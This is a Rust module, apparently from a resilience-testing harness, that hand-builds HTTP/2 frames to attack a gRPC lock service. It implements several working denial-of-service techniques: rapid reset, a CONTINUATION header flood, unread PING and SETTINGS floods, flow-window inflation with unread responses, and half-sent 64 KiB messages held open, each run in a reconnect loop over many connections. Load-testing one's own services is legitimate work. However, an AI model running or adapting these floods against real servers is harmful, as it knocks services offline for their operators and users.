//! Frames of HTTP/2 without end.

use std::{future::poll_fn, io, net::SocketAddr, time::Duration};

use bytes::Bytes;
use futures_util::future::{join, join_all};
use h2::{Reason, SendStream, client::SendRequest};
use http::Request;
use tokio::{
    io::{AsyncReadExt, AsyncWriteExt, split},
    net::TcpStream,
    time::sleep,
};

use super::{
    attacker::{Tally, connect},
    target::ATTACKER,
};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0";
/// Types of frames.
const HEADERS_FRAME: u8 = 1;
const RST_STREAM: u8 = 3;
const CONTINUATION: u8 = 9;
/// Flags of HEADERS.
const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;

/// Frames that are to be answered.
pub(super) const PING: &[u8] = b"\0\0\x08\x06\0\0\0\0\0--------";
pub(super) const SETTINGS: &[u8] = b"\0\0\0\x04\0\0\0\0\0";

pub(super) const ACQUIRE: &str = "/ringfence.v1.LockService/Acquire";
pub(super) const CHECK: &str = "/grpc.health.v1.Health/Check";

const CONNECTIONS: usize = 64;
/// A connection that was closed comes back after this time.
const BACK_AFTER: Duration = Duration::from_millis(100);
/// Frames are sent as many at a time.
const AT_A_TIME: u32 = 100;

/// Keeps connections open, over each of which `block` is sent again and again: the bytes of the n-th.
async fn send<B: AsRef<[u8]>>(
    to: SocketAddr,
    tally: &Tally,
    reads: impl Fn(usize) -> bool,
    block: impl Fn(usize, u32) -> B,
) {
    tally.height(CONNECTIONS);
    let all = (0..CONNECTIONS).map(async |number| {
        loop {
            let sends = async {
                let mut stream = connect(number % 10, to).await?;
                stream.write_all(PREFACE).await?;
                let (mut answers, mut sends) = split(stream);
                let sending = async {
                    for nth in 0.. {
                        sends.write_all(block(number, nth).as_ref()).await?;
                        tally.sent();
                    }
                    Ok::<_, io::Error>(())
                };
                let reading = async {
                    let mut answer = [0; 4096];
                    while !reads(number) || answers.read(&mut answer).await? > 0 {
                        if !reads(number) {
                            std::future::pending::<()>().await;
                        }
                    }
                    Err::<(), _>(io::ErrorKind::UnexpectedEof.into())
                };
                tokio::select! {
                    ended = sending => ended,
                    ended = reading => ended,
                }
            };
            let _ = sends.await;
            sleep(BACK_AFTER).await;
        }
    });
    join_all(all).await;
}

/// `frame` without end. Every other connection reads the answers.
pub(super) async fn unread(to: SocketAddr, frame: &[u8], tally: &Tally) {
    let block = frame.repeat(AT_A_TIME as usize);
    send(to, tally, |number| number % 2 == 1, |_, _| &block).await;
}

/// Streams that are reset at once.
pub(super) async fn rapid_reset(to: SocketAddr, tally: &Tally) {
    let headers = call(&[]);
    let block = |_, nth: u32| {
        let streams = (0..AT_A_TIME).map(|index| stream(nth * AT_A_TIME + index));
        let frames = streams.flat_map(|stream| {
            let flags = END_HEADERS | END_STREAM;
            let mut both = frame(HEADERS_FRAME, flags, stream, &headers);
            both.extend(frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes()));
            both
        });
        frames.collect::<Vec<_>>()
    };
    send(to, tally, |_| true, block).await;
}

/// Every other connection sends calls with long headers; the others send headers that do not end.
pub(super) async fn headers(to: SocketAddr, tally: &Tally) {
    let long = call(&[b'x'; 15_000]);
    let block = |number, nth| match (number % 2, nth) {
        (0, _) => frame(HEADERS_FRAME, END_HEADERS | END_STREAM, stream(nth), &long),
        (_, 0) => frame(HEADERS_FRAME, 0, stream(0), &call(&[])),
        _ => frame(
            CONTINUATION,
            0,
            stream(0),
            &literal(b"more", &[b'x'; 15_000]),
        ),
    };
    send(to, tally, |_| true, block).await;
}

/// Lists whose answers are not read, although as much may be sent as HTTP/2 has a number for.
pub(super) async fn unread_lists(to: SocketAddr, tally: &Tally) {
    const DATA: u8 = 0;
    const SETTINGS: u8 = 4;
    const WINDOW_UPDATE: u8 = 8;
    const CALLS: u32 = 250;
    let most = (i32::MAX as u32).to_be_bytes();
    let settings = frame(SETTINGS, 0, 0, &[&[0, 4], &most[..]].concat());
    let more = (i32::MAX as u32 - 65_535).to_be_bytes();
    let window = frame(WINDOW_UPDATE, 0, 0, &more);
    let list = call_of("/ringfence.v1.LockService/List", &[]);
    let calls = (0..CALLS).map(stream).flat_map(|stream| {
        let mut both = frame(HEADERS_FRAME, END_HEADERS, stream, &list);
        both.extend(frame(DATA, END_STREAM, stream, &[0; 5]));
        both
    });
    let first: Vec<_> = [settings, window]
        .concat()
        .into_iter()
        .chain(calls)
        .collect();
    let block = |_, nth| {
        if nth == 0 {
            first.clone()
        } else {
            PING.to_vec()
        }
    };
    send(to, tally, |_| false, block).await;
}

/// The id of the n-th stream. After the last one, an error of the connection follows.
fn stream(nth: u32) -> u32 {
    2 * nth + 1
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = &(payload.len() as u32).to_be_bytes()[1..];
    [length, &[kind, flags], &stream.to_be_bytes(), payload].concat()
}

/// The headers of a call, one of which has `value`.
fn call(value: &[u8]) -> Vec<u8> {
    call_of(ACQUIRE, value)
}

fn call_of(method: &str, value: &[u8]) -> Vec<u8> {
    let authorization = format!("Bearer {ATTACKER}");
    let headers: [(&str, &[u8]); 7] = [
        (":method", b"POST"),
        (":scheme", b"http"),
        (":path", method.as_bytes()),
        (":authority", b"attack"),
        ("content-type", b"application/grpc"),
        ("authorization", authorization.as_bytes()),
        ("long", value),
    ];
    let headers = headers.iter();
    let headers = headers.flat_map(|(name, value)| literal(name.as_bytes(), value));
    headers.collect()
}

/// RFC 7541, 6.2.2: a literal header without an index.
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    [&[0], &*length(name), name, &length(value), value].concat()
}

/// RFC 7541, 5.1: a length with a prefix of 7 bits.
fn length(text: &[u8]) -> Vec<u8> {
    let Some(mut more) = text.len().checked_sub(127) else {
        return vec![text.len() as u8];
    };
    let mut bytes = vec![127];
    while more >= 128 {
        bytes.push(128 + (more % 128) as u8);
        more /= 128;
    }
    bytes.push(more as u8);
    bytes
}

/// Calls of `method`, each with a message of 64 KiB whose last bytes do not come.
pub(super) async fn half_messages(to: SocketAddr, method: &str, tally: &Tally) {
    const CONNECTIONS: usize = 40;
    const ON_EACH: usize = 250;
    tally.height(CONNECTIONS * ON_EACH);
    let all = (0..CONNECTIONS).map(async |number| {
        loop {
            if let Ok(stream) = connect(number, to).await {
                halves(stream, ON_EACH, method, tally).await;
            }
            sleep(BACK_AFTER).await;
        }
    });
    join_all(all).await;
}

/// As many half messages over one connection, until it ends.
async fn halves(stream: TcpStream, count: usize, method: &str, tally: &Tally) {
    let Ok((requests, connection)) = h2::client::handshake(stream).await else {
        return;
    };
    let calls = join_all((0..count).map(async |_| {
        loop {
            let half = half(requests.clone(), method).await;
            tally.sent();
            // It is held as long as it can be.
            if let Ok(mut half) = half {
                let _ = poll_fn(|context| half.poll_reset(context)).await;
            }
            sleep(BACK_AFTER).await;
        }
    }));
    tokio::select! {
        _ = connection => {}
        _ = join(calls, std::future::pending::<()>()) => {}
    }
}

async fn half(requests: SendRequest<Bytes>, method: &str) -> Result<SendStream<Bytes>, h2::Error> {
    let request = Request::post(format!("http://attack{method}"));
    let request = request
        .header("content-type", "application/grpc")
        .header("te", "trailers")
        .header("authorization", format!("Bearer {ATTACKER}"));
    let request = request.body(()).expect("a valid request");
    let mut requests = requests.ready().await?;
    let (answer, mut sends) = requests.send_request(request, false)?;
    // Its answer is not waited for.
    drop(answer);
    let length = (64_u32 << 10).to_be_bytes();
    let mut message = Bytes::from([&[0], &length[..], &[0; 65_000]].concat());
    while !message.is_empty() {
        sends.reserve_capacity(message.len());
        let room = poll_fn(|context| sends.poll_capacity(context)).await;
        let room = room.unwrap_or_else(|| Err(Reason::CANCEL.into()))?;
        let part = message.split_to(room.min(message.len()));
        sends.send_data(part, false)?;
    }
    Ok(sends)
}
